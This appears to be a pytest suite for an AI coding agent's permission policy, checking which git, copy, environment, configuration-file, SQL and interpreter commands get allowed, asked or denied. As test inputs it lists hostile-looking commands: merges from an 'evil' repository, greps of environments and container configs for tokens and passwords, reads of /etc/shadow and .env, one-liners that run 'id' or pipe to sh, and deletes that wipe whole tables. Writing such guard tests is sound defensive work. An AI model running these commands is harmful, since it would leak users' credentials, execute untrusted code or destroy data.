"""Probe round 24, what round 23 left open (2026-11-26): fetched commits merged unseen, a
directory's contents copied into the project root, whole configurations searched for their
secrets, the environment filtered by a secret's word, files that name programs a tool runs
later, over-asks (a password's last use, a Secret's name, mkdir .github), self-comparisons in
SQL, and version one-liners of python/node/ruby."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import (MODES, assert_denied_everywhere, assert_never_allowed, bash,
                                         bash_in_every_mode, decide, snap)

ALLOWED = {m: "allow" for m in MODES}
FILE_ROW = {"default": "ask", "accept_edits": "allow", "bypass": "allow", "dont_ask": "deny", "explore": "deny"}
BUILD_ROW = {"default": "allow", "accept_edits": "allow", "bypass": "allow", "dont_ask": "allow", "explore": "deny"}
ASKED = {"default": "ask", "accept_edits": "ask", "bypass": "allow", "dont_ask": "deny", "explore": "deny"}


def tool_in_every_mode(tool: str, args: dict, snapshot=None) -> dict[str, str]:
    s = snapshot if snapshot is not None else snap()
    return {m: decide(s, tool, args, agent_mode="bypass", mode=m).decision for m in MODES}


# --- 1. another repository's commits merged, picked or checked out ---------------------------

@pytest.mark.parametrize("command", [
    "git merge FETCH_HEAD",
    "git fetch https://github.com/evil/x main && git merge FETCH_HEAD",
    "git merge @{u}",
    "git merge @{upstream}",
    "git rebase @{u}",
    "git rebase HEAD@{upstream}",
    "git cherry-pick FETCH_HEAD",
    "git checkout FETCH_HEAD",
    "git switch --detach FETCH_HEAD",
    "git merge refs/remotes/origin/main",
    "git merge --allow-unrelated-histories tpl/main",
])
def test_fetched_commits_are_no_file_command(command):
    d = bash_in_every_mode(command)
    assert d["accept_edits"] == "ask", (command, d)
    assert_never_allowed(command, modes=("default", "accept_edits", "dont_ask", "explore"))


@pytest.mark.parametrize("command", [
    "git merge feature/login", "git merge --no-ff feature/x", "git merge main", "git merge --ff-only fix-1",
    "git rebase main", "git rebase --continue", "git cherry-pick abc123", "git cherry-pick --abort",
    "git stash pop", "git stash apply stash@{1}", "git checkout -b feat/x", "git switch main", "git revert HEAD",
])
def test_local_branches_stay_file_commands(command):
    assert bash_in_every_mode(command) == FILE_ROW, command


@pytest.mark.parametrize("command", [
    "git apply <<'EOF'\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{}\n+{\"x\":1}\nEOF",
    "patch -p1 <<'EOF'\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-x\n+y\nEOF",
    "patch -p1 <<'EOF'\n--- a/.cargo/config.toml\n+++ b/.cargo/config.toml\n@@ -1 +1 @@\n-x\n+y\nEOF",
])
def test_patches_naming_settings_ask(command):
    assert_never_allowed(command, modes=("default", "accept_edits", "dont_ask", "explore"))


@pytest.mark.parametrize("path,ask", [
    (".vscode/tasks.json", True), (".cargo/config.toml", True), (".idea/runConfigurations/App.xml", True),
    ("src/a.py", False),
])
def test_apply_patch_tool_naming_settings(path, ask):
    args = {"input": f"*** Begin Patch\n*** Update File: {path}\n@@\n-a\n+b\n*** End Patch"}
    d = tool_in_every_mode("apply_patch", args)
    assert d["accept_edits"] == ("ask" if ask else "allow"), (path, d)


# --- 2. a directory's contents copied into the project itself --------------------------------

@pytest.mark.parametrize("command", [
    "cp -r /tmp/tpl/. .",
    "cp -a /tmp/tpl/. ./",
    "cp -R ../template/. .",
    "cp -rT /tmp/tpl .",
    "cp -r --no-target-directory /tmp/tpl .",
    "cp -r -t . /tmp/tpl/.",
    "cp -r /tmp/tpl/.. .",
    "rsync -a /tmp/x/ .",
    "rsync -av /tmp/x/ ./",
    "rsync -a /tmp/x/. .",
    "cp -r /tmp/tpl/. .git",
    "rsync -a /tmp/x/ .github/",
])
def test_contents_into_the_project_root_ask(command):
    d = bash_in_every_mode(command)
    assert d["accept_edits"] == "ask" and d["default"] == "ask", (command, d)
    assert d["explore"] == "deny" and d["dont_ask"] == "deny", (command, d)


@pytest.mark.parametrize("command", [
    "cp -r /tmp/tpl/. src/", "cp -r src/. build/", "rsync -a /tmp/x/ src/", "rsync -a src/ build/",
    "cp -r /tmp/tpl .", "cp -r /tmp/tpl/src .", "cp /tmp/x.py src/", "cp -r src build", "rsync -a /tmp/x .",
    "tar -xf /tmp/x.tar -C src", "cp -r /tmp/tpl/* .",
])
def test_copies_below_the_root_stay_file_commands(command):
    assert bash_in_every_mode(command) == FILE_ROW, command


# --- 3, 5, 6. the environment, or a configuration holding one, searched for secrets -----------

@pytest.mark.parametrize("command", [
    "env | grep -i key", "env | grep -i api", "env | grep -i auth", "env | grep -i pass", "env | grep -i pwd",
    "env | grep -i cred", "env | grep -i private", "env | grep -i session", "env | grep KEY",
    "env | rg -i key", "env | awk '/KEY/'", "env | sort | grep -i api_key", "printenv | grep -i api",
    "printenv | egrep -i 'secret|key'", "env | grep -i cookie", "env | grep -i \"$WORD\"",
    "for w in key token; do env | grep -i \"$w\"; done", "docker inspect $(docker ps -q) | grep -i password",
    "docker inspect web | grep -i pass", "docker inspect web | jq '.[0].Config.Env'",
    "docker inspect web | grep -A20 Env", "docker container inspect web | grep -i secret",
    "podman inspect web | grep -i token",
    "kubectl describe pod web | grep -i password", "kubectl describe pod web | grep -A10 Environment",
    "kubectl get pod web -o yaml | grep -i token", "kubectl get pod web -oyaml | grep -A3 env",
    "kubectl get deploy web -o json | jq '.spec.template.spec.containers[].env'",
    "git config --list | grep -i token", "git config --list | grep extraheader", "git config -l | grep -i auth",
    "git config --list --show-origin | grep -i credential",
    # (already asked before this round)
    "set | grep -i secret", "declare -p | grep TOKEN", "export -p", "compgen -v | xargs -I{} printenv {}",
    "ps eww", "ps -E", "cat /proc/1/environ", "cat /proc/*/environ", "docker exec c env", "kubectl exec pod -- env",
    "systemctl show-environment", "launchctl getenv AWS_SECRET_ACCESS_KEY",
    "docker inspect --format '{{.Config.Env}}' web",
])
def test_secrets_picked_out_of_an_environment_ask(command):
    assert_never_allowed(command, modes=("default", "accept_edits", "dont_ask", "explore"))


@pytest.mark.parametrize("command", [
    "env", "printenv", "env | sort", "env | grep -i proxy", "env | grep -i path", "env | grep -i lang",
    "env | grep PATH", "env | grep -i node", "env | grep -i virtual", "env | grep -c KEY", "printenv HOME",
    "printenv | grep -i proxy", "env | grep -v KEY", "env | grep -i ssh_auth_sock", "env | grep -q KEY && echo set",
    # seed 002 lists docker inspect and git config --list as read-only: whole, they stay
    "docker inspect c", "docker container inspect web", "docker inspect --format '{{.State.Status}}' web",
    "docker inspect web | jq '.[0].State.Status'", "docker inspect web | grep -i status",
    "git config --list", "git config -l --show-origin", "git config --global --list", "git config user.name",
    "git config --get core.editor", "git config --list | grep user", "git config -l | grep -i core",
    "git config --list --name-only | grep -i token",
    "kubectl describe pod web", "kubectl get pod web -o yaml", "kubectl describe pod web | grep -i image",
    "kubectl get pod web -o yaml | grep -i image", "kubectl get pods", "docker ps", "ps aux",
])
def test_whole_configurations_and_harmless_filters_stay_read_only(command):
    assert bash_in_every_mode(command) == ALLOWED, command


# --- 4. files that name a program a tool runs later -----------------------------------------

@pytest.mark.parametrize("path", [
    ".cargo/config.toml", ".cargo/config", "crates/x/.cargo/config.toml", ".idea/runConfigurations/App.xml",
    ".idea/workspace.xml", ".idea/tools/External Tools.xml", ".fleet/run.json", "pip.conf", ".venv/pip.conf",
    # (already asked)
    ".vscode/tasks.json", ".vscode/launch.json", ".npmrc", ".yarnrc.yml", ".pypirc",
])
def test_runs_later_files_ask_on_write(path):
    for tool, args in (("Write", {"file_path": f"/home/dev/project/{path}", "content": "x = 1\n"}),
                       ("Edit", {"file_path": f"/home/dev/project/{path}", "old_string": "a", "new_string": "b"})):
        d = tool_in_every_mode(tool, args)
        assert d["accept_edits"] == "ask" and d["default"] == "ask" and d["explore"] == "deny", (tool, path, d)
    d = bash_in_every_mode(f"echo x >> {path}")
    assert d["accept_edits"] == "ask", (path, d)


@pytest.mark.parametrize("path", [
    "src/main.rs", "build.rs", "Cargo.toml", "setup.cfg", "tox.ini", ".gitattributes", ".editorconfig",
    "package.json", "Makefile", ".idea/misc.xml", "pyproject.toml",
])
def test_ordinary_project_files_stay_editable(path):
    d = tool_in_every_mode("Write", {"file_path": f"/home/dev/project/{path}", "content": "x = 1\n"})
    assert d["accept_edits"] == "allow", (path, d)


# --- 7. over-asks ----------------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "aws iam get-user --query User.PasswordLastUsed",
    "aws iam get-user --query 'User.PasswordLastUsed'",
    "kubectl get sa -o jsonpath='{.secrets[0].name}'",
    "kubectl get sa default -o jsonpath='{.secrets[*].name}'",
    "kubectl get pods -o jsonpath='{.items[*].spec.volumes[*].secret.secretName}'",
    "aws iam get-user --query User.UserName",
])
def test_fields_about_a_secret_that_hold_none(command):
    assert bash_in_every_mode(command) == ALLOWED, command


@pytest.mark.parametrize("command", [
    "kubectl get secret x -o jsonpath='{.data.password}'",
    "kubectl get pods -o jsonpath='{..env[?(@.name==\"DB_PASSWORD\")].value}'",
    "gcloud config list --format='value(proxy.password)'",
    "az vm list --query \"[].osProfile.adminPassword\"",
    "kubectl get sa -o jsonpath='{.secrets[0].name}{.data.token}'",
])
def test_secret_fields_still_ask(command):
    assert_never_allowed(command, modes=("default", "accept_edits", "dont_ask", "explore"))


@pytest.mark.parametrize("command", [
    "mkdir .github", "mkdir -p .github", "mkdir -p .github/workflows", "mkdir .vscode", "mkdir -p .husky",
    "mkdir -p .circleci", "mkdir -p src/.github", "mkdir -p .idea/runConfigurations",
])
def test_an_empty_directory_runs_nothing(command):
    assert bash_in_every_mode(command) == FILE_ROW, command


@pytest.mark.parametrize("command", [
    "mkdir .github && echo x > .github/workflows/ci.yml",
    "mkdir -p .github/workflows && cp /tmp/ci.yml .github/workflows/",
    "mkdir -p .github && cp -r /tmp/x .github",
    "touch .github/workflows/ci.yml",
    "mkdir .claude", "mkdir -p .git/hooks",
])
def test_what_is_put_in_it_still_asks(command):
    d = bash_in_every_mode(command)
    assert d["accept_edits"] == "ask", (command, d)


# --- 8. SQL comparing a column with itself, a subquery of the same table, x OR NOT x ------------

SQL_TOOL = "mcp__postgres__query"


@pytest.mark.parametrize("query", [
    "DELETE FROM users WHERE id = id + 0", "DELETE FROM users WHERE id = id * 1", "DELETE FROM users WHERE id = 0 + id",
    "UPDATE users SET a = 1 WHERE id = id - 0", "DELETE FROM users WHERE id + 0 = id",
    "DELETE FROM users WHERE lower(email) = lower(email)", "DELETE FROM users WHERE coalesce(x, 1) = coalesce(x, 1)",
    "DELETE FROM t WHERE t.id = t.id + 0", "DELETE FROM t WHERE (id = id + 0)", "DELETE FROM t WHERE x >= x",
    "DELETE FROM users WHERE id IN (SELECT id FROM users)",
    "DELETE FROM users WHERE id IN (SELECT users.id FROM users)",
    "DELETE FROM users u WHERE u.id IN (SELECT u2.id FROM users u2)",
    "DELETE FROM users WHERE id IN (SELECT id FROM public.users)",
    "DELETE FROM users WHERE x OR NOT x", "DELETE FROM t WHERE NOT (x = 1) OR x = 1",
    "DELETE FROM users WHERE x OR 1", "DELETE FROM users WHERE x = 5 OR 1",
])
def test_every_row_sql_denied(query):
    d = tool_in_every_mode(SQL_TOOL, {"query": query})
    assert set(d.values()) == {"deny"}, (query, d)


@pytest.mark.parametrize("command", [
    'psql -c "DELETE FROM users WHERE id = id + 0"',
    'sqlite3 app.db "DELETE FROM users WHERE id IN (SELECT id FROM users)"',
])
def test_every_row_sql_denied_through_bash(command):
    assert_denied_everywhere(command)


@pytest.mark.parametrize("query", ["DELETE FROM t WHERE id = id + 1"])
def test_self_comparison_otherwise_asks(query):
    d = tool_in_every_mode(SQL_TOOL, {"query": query})
    assert d["default"] == "ask" and d["bypass"] == "allow", (query, d)


@pytest.mark.parametrize("query", [
    "DELETE FROM users WHERE id = 5", "DELETE FROM users WHERE id IN (SELECT id FROM users WHERE active = 0)",
    "DELETE FROM users WHERE id IN (SELECT user_id FROM bans)", "DELETE FROM users WHERE id IN (SELECT id FROM users LIMIT 10)",
    "DELETE FROM a USING b WHERE a.id = b.id", "DELETE FROM a USING b WHERE a.id = b.a_id",
    "UPDATE a SET x = b.x FROM b WHERE a.id = b.id", "UPDATE t SET x = x + 1 WHERE id = 5",
    "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.bad = 1", "DELETE FROM t WHERE x = 'x'",
    "UPDATE users SET email = lower(email) WHERE email <> lower(email)", "DELETE FROM t WHERE id = id + 0 AND id = 5",
    "DELETE FROM sessions WHERE expires_at < now()", "SELECT * FROM users WHERE id = id + 0",
])
def test_bounded_sql_stays_allowed(query):
    d = tool_in_every_mode(SQL_TOOL, {"query": query})
    assert d["default"] == "allow", (query, d)


# --- 9. version one-liners -------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "python -c 'import sys; print(sys.version)'", "python3 -c 'import sys; print(sys.version_info)'",
    "python3 -c 'import sys;print(sys.version)'", "python3 -c 'import sys; print(sys.executable)'",
    "python3 -c 'import sys; print(sys.prefix, sys.platform)'",
    "node -e 'console.log(process.version)'", "node -p process.versions", "node -p 'process.versions.node'",
    "node -p 'process.platform'", "node -e 'console.log(process.arch, process.version)'",
    "ruby -e 'puts RUBY_VERSION'", "ruby -e 'puts RUBY_PLATFORM'", "ruby -e 'p RUBY_VERSION, RUBY_PATCHLEVEL'",
    "ruby -e 'print RUBY_VERSION'", "ruby -e 'puts(RUBY_VERSION)'", "python3 -c 'from sys import version; print(version)'",
    "python3.12 -c 'import sys; print(sys.version)'", "node --print 'process.arch'", "nodejs -p process.version",
    # (probe round 45, interp45: os is loaded before the working directory joins the path, and
    # these only read and print: os.getcwd(), a variable read by a name no secret has, standard
    # input printed as cat prints it; they were in the list below)
    "python3 -c 'import os; print(os.getcwd())'", "python3 -c 'import os; print(os.getenv(\"HOME\"))'",
    "python3 -c 'import sys; print(sys.stdin.read())'",
])
def test_interpreter_state_one_liners_are_read_only(command):
    assert bash_in_every_mode(command) == ALLOWED, command


@pytest.mark.parametrize("command", [
    'python3 -c "import django; print(django.__version__)"',
    "python3 -c 'import numpy, pandas; print(numpy.__version__, pandas.__version__)'",
    "python3 -c 'import torch; print(torch.__version__); print(torch.cuda.is_available())'",
    "python3 -c 'from django import VERSION; print(VERSION)'",
    "python3 -c 'import platform; print(platform.python_version())'",
    'python3 -c "import tensorflow as tf; print(tf.__version__)"',
    "node -p 'require(\"typescript\").version'",
    "node -e 'console.log(require(\"react/package.json\").version)'",
    "ruby -e 'require \"rails\"; puts Rails.version'",
])
def test_imports_run_the_module_as_a_build(command):
    assert bash_in_every_mode(command) == BUILD_ROW, command


@pytest.mark.parametrize("command", [
    "python3 -c 'import os; print(os.environ)'",
    "python3 -c 'import os; print(os.environ[\"AWS_SECRET_ACCESS_KEY\"])'",
    "python3 -c 'import os; os.system(\"id\")'",
    "python3 -c 'import sys; print(sys.version); import os; os.remove(\"x\")'",
    "python3 -c '__import__(\"os\").system(\"id\")'",
    "python3 -c 'import sys; sys.exit(0)'",
    "python3 -c 'import sys; print(sys.version)' > /tmp/v.txt",
    "python3 -c 'print(open(\"/etc/shadow\").read())'",
    "python3 -c 'from os import environ; print(environ)'",
    "python3 -c 'import sys; print(sys.version)' -x",
    "node -e 'console.log(process.env)'", "node -p 'process.env.GITHUB_TOKEN'",
    "node -e 'require(\"child_process\").execSync(\"id\")'", "node -p 'process.mainModule'",
    "node -p 'require(\"fs\").readFileSync(\".env\", \"utf8\")'",
    "ruby -e 'puts ENV[\"HOME\"]'", "ruby -e 'system(\"id\")'", "ruby -e 'puts File.read(\".env\")'",
    "ruby -e 'p ENV'", "python3 -I -c 'import sys; print(sys.version)' && rm -rf build",
    # a module from outside the project, or a path out of it, is no package's version
    "ruby -e 'require \"/tmp/evil\"; puts X.version'", "ruby -e 'require \"~/x\"; puts X.version'",
    "node -p 'require(\"/tmp/x\").version'", "node -p 'require(\"./../x\").version'",
    "cd /tmp && python3 -c 'import django; print(django.__version__)'",
    "PYTHONPATH=/tmp python3 -c 'import sys; print(sys.version)'",
    "python3 -c 'import sys; print(sys.modules[\"os\"].environ)'",
    "python3 -c 'import sys; print(sys.version)' | sh", "ruby -e 'puts RUBY_VERSION; exec(\"id\")'",
    "ruby -e 'puts RUBY_VERSION + `id`'", "node -p 'process.binding(\"fs\")'",
])
def test_other_one_liners_are_not_read_only(command):
    d = bash_in_every_mode(command)
    assert d["explore"] == "deny" and d["default"] != "allow", (command, d)
